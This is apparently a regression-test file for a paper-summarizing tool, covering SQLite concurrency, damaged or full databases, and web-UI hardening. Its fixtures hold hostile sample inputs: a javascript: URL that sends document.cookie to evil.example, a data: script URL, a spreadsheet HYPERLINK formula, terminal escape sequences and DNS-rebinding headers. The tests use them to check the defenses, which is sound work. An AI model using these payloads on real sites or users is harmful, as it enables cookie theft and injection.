"""The attacks of issue 16, one regression test per break, so the suite of attacks grows here.

Each test is named after the break it closes and reproduces the attack as it was made: real
concurrent processes on one SQLite file, a damaged or read-only or full database, a request
with another site's Host or Origin, a paper whose text carries formulas, markup or terminal
escapes.
"""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from agent.cli.main import app
from store.db import open_engine
from store.runs import start_run
from store.tables import Run
from tests.conftest import LISTING, ROOT

runner = CliRunner()


def _paperskim(*args: str, env: dict[str, str]) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "agent", *args],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _finish(procs: list[subprocess.Popen[str]]) -> list[tuple[int, str]]:
    results = []
    for proc in procs:
        out, err = proc.communicate(timeout=300)
        results.append((proc.returncode, out + err))
    return results


def _ok_summaries(db: Path) -> list[int]:
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT paper_id FROM summary WHERE status = 'ok'").fetchall()
    return [row[0] for row in rows]


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return {**os.environ, "COLUMNS": "200"}


# -- concurrency on SQLite ---------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(3))
def test_two_runs_on_one_fresh_sqlite_file_both_finish_with_no_paper_summarized_twice(
    tmp_path: Path, env: dict[str, str], trial: int
) -> None:
    # Before: one of the two failed in 10 of 14 trials ("table paper already exists", an
    # IntegrityError on the paper key), and a paper could be summarized twice.
    db = tmp_path / f"fresh-{trial}.db"
    procs = [
        _paperskim("run", str(LISTING), "--db", str(db), "--out", str(tmp_path / f"d{n}.md"),
                   env=env)
        for n in range(2)
    ]  # fmt: skip
    for code, output in _finish(procs):
        assert code == 0, output
        assert "Traceback" not in output and "already exists" not in output, output
    ok = _ok_summaries(db)
    assert len(ok) == len(set(ok)) == 119


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(3))
def test_three_concurrent_offline_summarize_never_summarize_a_paper_twice(
    tmp_path: Path, env: dict[str, str], trial: int
) -> None:
    # Before: 24 papers summarized twice over 6 trials (the candidate SELECT ran outside the
    # transaction that took the lease).
    db = tmp_path / f"s-{trial}.db"
    assert runner.invoke(app, ["ingest", str(LISTING), "--db", str(db)]).exit_code == 0
    procs = [_paperskim("summarize", "--db", str(db), env=env) for _ in range(3)]
    for code, output in _finish(procs):
        assert code == 0, output
    ok = _ok_summaries(db)
    assert len(ok) == len(set(ok)) == 119


def test_a_run_whose_process_was_killed_is_closed_as_interrupted_on_the_next_start(
    tmp_path: Path,
) -> None:
    # Before: 35 killed runs stayed "running" forever.
    db = tmp_path / "k.db"
    store = open_engine(f"sqlite:///{db}")
    victim = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True
    )
    try:
        killed = start_run(store, "summarize", engine="offline")
        # That run's row names the process we are about to kill, as `paperskim` itself would.
        with sqlite3.connect(db) as conn:
            host, _, nonce = str(killed.worker).split(":")
            conn.execute(
                "UPDATE run SET worker = ? WHERE id = ?",
                (f"{host}:{victim.pid}:{nonce}", killed.id),
            )
        alive = start_run(store, "summarize", engine="offline")  # this process: alive
    finally:
        os.kill(victim.pid, signal.SIGKILL)
        victim.wait()
    start_run(store, "ingest", engine="offline")
    with sqlite3.connect(db) as conn:
        status = dict(conn.execute("SELECT id, status FROM run").fetchall())
        finished = conn.execute("SELECT finished_at FROM run WHERE id = ?", (killed.id,))
        assert finished.fetchone()[0] is not None
    assert status[killed.id] == "interrupted"
    assert status[alive.id] == "running"


def test_a_run_from_before_runs_named_their_process_is_closed_after_a_day(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    store = open_engine(f"sqlite:///{db}")
    old = start_run(store, "run", engine="offline")
    recent = start_run(store, "run", engine="offline")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE run SET worker = NULL")
        conn.execute(
            "UPDATE run SET started_at = datetime('now', '-2 days') WHERE id = ?", (old.id,)
        )
    start_run(store, "run", engine="offline")
    with sqlite3.connect(db) as conn:
        status = dict(conn.execute("SELECT id, status FROM run").fetchall())
    assert status[old.id] == "interrupted" and status[recent.id] == "running"
    assert Run.model_fields["status"].description and "interrupted" in str(
        Run.model_fields["status"].description
    )


# -- damaged, read-only and full databases ------------------------------------------------------


def _one_line_error(args: list[str]) -> str:
    """The StoreError a command stops with (the CLI prints it as one line, exit 1)."""
    from agent.core.errors import StoreError

    result = runner.invoke(app, args)
    assert isinstance(result.exception, StoreError), result.output
    message = str(result.exception)
    assert "\n" not in message and "Traceback" not in message
    return message


def _stored(db: Path) -> bytes:
    """The database file's bytes with everything in it (its WAL copied back first)."""
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return db.read_bytes()


@pytest.fixture
def jsonl(tmp_path: Path) -> Path:
    path = tmp_path / "one.jsonl"
    path.write_text(
        '{"id": "x1", "title": "A new paper", "abstract": "It is 2x faster than vLLM."}\n'
    )
    return path


def test_a_file_of_random_bytes_as_database_is_one_clear_error(tmp_path: Path, jsonl: Path) -> None:
    db = tmp_path / "random.db"
    db.write_bytes(os.urandom(20_000))
    for args in (["ingest", str(jsonl)], ["stats"], ["export"]):
        message = _one_line_error([*args, "--db", str(db)])
        assert "file is not a database" in message and "backup" in message, message


def test_a_truncated_database_is_one_clear_error(tmp_path: Path, jsonl: Path) -> None:
    db = tmp_path / "whole.db"
    assert runner.invoke(app, ["ingest", str(LISTING), "--db", str(db)]).exit_code == 0
    cut = tmp_path / "cut.db"
    whole = _stored(db)
    cut.write_bytes(whole[: len(whole) // 2])
    message = _one_line_error(["ingest", str(jsonl), "--db", str(cut)])
    assert "malformed" in message and "backup" in message, message


def test_ingest_refuses_to_write_into_a_database_with_a_damaged_page(
    tmp_path: Path, jsonl: Path
) -> None:
    # Before: `ingest` wrote into the malformed file and exited 0.
    db = tmp_path / "damaged.db"
    assert runner.invoke(app, ["ingest", str(LISTING), "--db", str(db)]).exit_code == 0
    assert len(_stored(db)) > 4096 * 21
    with db.open("r+b") as handle:
        handle.seek(4096 * 20)
        handle.write(os.urandom(4096))
    message = _one_line_error(["ingest", str(jsonl), "--db", str(db)])
    assert "malformed" in message or "damaged" in message, message


def test_a_read_only_database_is_one_clear_error_and_still_readable(
    tmp_path: Path, jsonl: Path
) -> None:
    db = tmp_path / "ro.db"
    assert runner.invoke(app, ["ingest", str(LISTING), "--db", str(db)]).exit_code == 0
    # Tests run as root, where chmod stops no write: SQLite's read-only open mode does.
    url = f"sqlite:///file:{db}?mode=ro&uri=true"
    message = _one_line_error(["ingest", str(jsonl), "--db", url])
    assert "readonly" in message and "permissions" in message, message
    assert runner.invoke(app, ["stats", "--db", url]).exit_code == 0


def test_a_read_only_database_file_is_one_clear_error_for_a_normal_user(
    tmp_path: Path, jsonl: Path
) -> None:
    if os.geteuid() == 0:
        pytest.skip("root writes through file permissions; the mode=ro test covers this case")
    db = tmp_path / "ro.db"
    assert runner.invoke(app, ["ingest", str(LISTING), "--db", str(db)]).exit_code == 0
    for path in tmp_path.glob("ro.db*"):
        path.chmod(0o444)
    tmp_path.chmod(0o555)
    try:
        message = _one_line_error(["ingest", str(jsonl), "--db", str(db)])
    finally:
        tmp_path.chmod(0o755)
    assert "read" in message, message


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 512 KB tmpfs (needs root and a kernel that lets this container mount)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a tiny tmpfs needs root")
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_full_disk_is_one_clear_error(tiny_disk: Path, tmp_path: Path) -> None:
    from tests.scale_data import synthetic_records, write_jsonl

    many = write_jsonl(tmp_path / "many.jsonl", synthetic_records(600))
    message = _one_line_error(["ingest", str(many), "--db", str(tiny_disk / "p.db")])
    assert "disk is full" in message and "free" in message, message


def test_a_database_at_its_size_limit_is_the_same_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # SQLite's own page limit raises the very error a full disk does (SQLITE_FULL), on any
    # machine: the same path as the tmpfs test above, without root.
    import store.db as db_module
    from tests.scale_data import synthetic_records, write_jsonl

    pragmas = db_module._sqlite_pragmas

    def limited(dbapi_connection: object, record: object) -> None:
        pragmas(dbapi_connection, record)
        dbapi_connection.execute("PRAGMA max_page_count = 80")  # type: ignore[attr-defined]

    monkeypatch.setattr(db_module, "_sqlite_pragmas", limited)
    many = write_jsonl(tmp_path / "many.jsonl", synthetic_records(600))
    message = _one_line_error(["ingest", str(many), "--db", str(tmp_path / "p.db")])
    assert "disk is full" in message and "free" in message, message


def test_other_database_errors_are_left_as_they_were(tmp_path: Path) -> None:
    from agent.core.errors import StoreError
    from store.failures import store_error

    assert store_error(sqlite3.IntegrityError("UNIQUE constraint failed"), "x.db") is None
    assert store_error(ValueError("no"), "x.db") is None
    full = sqlite3.OperationalError("database or disk is full")
    full.sqlite_errorname = "SQLITE_FULL"
    assert isinstance(store_error(full, "x.db"), StoreError)


# -- the review UI answers only its own host ----------------------------------------------------


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """Papers whose text attacks: a javascript: url, markup, formulas, terminal escapes."""
    source = tmp_path / "hostile.jsonl"
    source.write_text(
        "\n".join(
            json.dumps(record)
            for record in [
                {
                    "id": "js1",
                    "title": HOSTILE_TITLE,
                    "abstract": ABSTRACT,
                    "url": "javascript:fetch('//evil.example/'+document.cookie)",
                },
                {
                    "id": FORMULA_ID,
                    "title": "=1+2",
                    "abstract": ABSTRACT,
                    "url": "data:text/html,<script>alert(1)</script>",
                },
                {
                    "id": "ok1",
                    "title": "A plain paper",
                    "abstract": ABSTRACT,
                    "url": "https://arxiv.org/abs/2501.00001",
                },
            ]
        )
        + "\n"
    )
    db = tmp_path / "hostile.db"
    assert runner.invoke(app, ["run", str(source), "--db", str(db),
                               "--out", str(tmp_path / "d.md")]).exit_code == 0  # fmt: skip
    return db


FORMULA_ID = '=HYPERLINK("http://evil.example")'
HOSTILE_TITLE = (
    "Fast \x1b]0;owned\x07serving\x1b[8m secret\x1b[0m <script>alert(1)</script>"
    " [x](javascript:alert(2))"
)
ABSTRACT = "We serve models 2.1x faster than vLLM on one GPU, with 30% less memory."


def _client(db: Path, host: str = "127.0.0.1") -> Any:
    from fastapi.testclient import TestClient

    from agent.cli.review import build_review_app
    from agent.config import load_settings

    app_ = build_review_app(load_settings(db=str(db)), reviewer="ana", host=host)
    return TestClient(app_, base_url="http://127.0.0.1:8000")


def _paper_id(db: Path, pid: str) -> int:
    with sqlite3.connect(db) as conn:
        return int(conn.execute("SELECT id FROM paper WHERE source_id = ?", (pid,)).fetchone()[0])


def test_dns_rebinding_another_host_name_is_refused(hostile_db: Path) -> None:
    # Before: any Host was answered, so a page on evil.example resolving to 127.0.0.1 read a
    # token and approved a paper.
    with _client(hostile_db) as client:
        assert client.get("/", headers={"Host": "evil.example"}).status_code == 400
        assert client.get("/", headers={"Host": "evil.example:8000"}).status_code == 400
        for name in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST"):
            assert client.get("/", headers={"Host": name}).status_code == 200, name
        token = client.cookies.get("paperskim_csrf")
        pid = _paper_id(hostile_db, "ok1")
        stolen = client.post(
            f"/papers/{pid}/approve",
            headers={"Host": "evil.example", "X-CSRF-Token": token or ""},
        )
        assert stolen.status_code == 400
    with _client(hostile_db, host="paperskim.lan") as client:
        assert client.get("/", headers={"Host": "paperskim.lan:8000"}).status_code == 200


def test_a_post_from_another_origin_is_refused_even_with_a_valid_token(hostile_db: Path) -> None:
    with _client(hostile_db) as client:
        client.get("/")
        token = client.cookies.get("paperskim_csrf") or ""
        pid = _paper_id(hostile_db, "ok1")
        for header in (
            {"Origin": "http://evil.example"},
            {"Origin": "http://127.0.0.1:9999"},  # another port is another origin
            {"Origin": "null"},
            {"Referer": "http://evil.example/page"},
        ):
            refused = client.post(
                f"/papers/{pid}/approve", headers={"X-CSRF-Token": token, **header}
            )
            assert refused.status_code == 403, header
        mine = client.post(
            f"/papers/{pid}/approve",
            headers={
                "X-CSRF-Token": token,
                "Origin": "http://127.0.0.1:8000",
                "HX-Request": "true",
            },
        )
        assert mine.status_code == 200
    with sqlite3.connect(hostile_db) as conn:
        assert conn.execute("SELECT count(*) FROM review").fetchone()[0] == 1


def test_no_page_can_be_framed_by_another_site_and_the_digest_preview_still_frames(
    hostile_db: Path,
) -> None:
    # Before: no X-Frame-Options / frame-ancestors, and an Approve click was recorded from a
    # frame on another port.
    with _client(hostile_db) as client:
        for path in ("/", f"/papers/{_paper_id(hostile_db, 'ok1')}", "/digest", "/nowhere"):
            response = client.get(path)
            assert response.headers["x-frame-options"] == "DENY", path
            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path
        frame = client.get("/digest/page")
        assert frame.status_code == 200
        assert frame.headers["x-frame-options"] == "SAMEORIGIN"
        assert "frame-ancestors 'self'" in frame.headers["content-security-policy"]
        assert "frame-src 'self'" in client.get("/digest").headers["content-security-policy"]


def test_a_javascript_or_data_url_is_shown_as_text_never_as_a_link(hostile_db: Path) -> None:
    with _client(hostile_db) as client:
        page = client.get(f"/papers/{_paper_id(hostile_db, 'js1')}").text
        assert 'href="javascript:' not in page and "javascript:fetch" in page
        formula = _paper_id(hostile_db, FORMULA_ID)
        data = client.get(f"/papers/{formula}")
        assert 'href="data:' not in data.text
        ok = client.get(f"/papers/{_paper_id(hostile_db, 'ok1')}").text
        assert 'href="https://arxiv.org/abs/2501.00001"' in ok


# -- exports, terminals and the Markdown digest ------------------------------------------------


def test_csv_export_cells_cannot_run_as_spreadsheet_formulas(hostile_db: Path) -> None:
    import csv
    import io

    result = runner.invoke(app, ["export", "--format", "csv", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    row = next(r for r in rows if "HYPERLINK" in r["id"])
    assert row["id"].startswith("'=") and row["title"] == "'=1+2"
    for cells in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
    # JSONL is data for programs: unchanged.
    jsonl = runner.invoke(app, ["export", "--db", str(hostile_db)])
    ids = [json.loads(line)["id"] for line in jsonl.stdout.splitlines()]
    assert '=HYPERLINK("http://evil.example")' in ids


def _no_escapes(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)


def test_terminal_escapes_in_a_title_never_reach_the_terminal_in_show(hostile_db: Path) -> None:
    result = runner.invoke(app, ["show", "js1", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    _no_escapes(result.stdout)
    assert "secret" in result.stdout  # the text ESC[8m hid is now shown
    assert "<script>alert(1)</script>" in result.stdout  # as text: a terminal runs no HTML


def test_terminal_escapes_in_a_title_never_reach_the_terminal_in_review(hostile_db: Path) -> None:
    result = runner.invoke(app, ["review", "--db", str(hostile_db)], input="s\ns\ns\n")
    assert result.exit_code == 0, result.output
    _no_escapes(result.stdout)
    assert "secret" in result.stdout


def test_the_markdown_digest_escapes_html_and_keeps_only_http_links(
    hostile_db: Path, tmp_path: Path
) -> None:
    digest = (tmp_path / "d.md").read_text()
    _no_escapes(digest)
    assert "<script>" not in digest and "&lt;script&gt;" in digest
    import re

    assert not re.search(r"(?<!\\)\]\((javascript|data):", digest)  # only `\]` (escaped) is there
    assert "[link](https://arxiv.org/abs/2501.00001)" in digest
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(digest)  # raw HTML on, as many renderers have it
    assert "<script>" not in html and 'href="javascript:' not in html
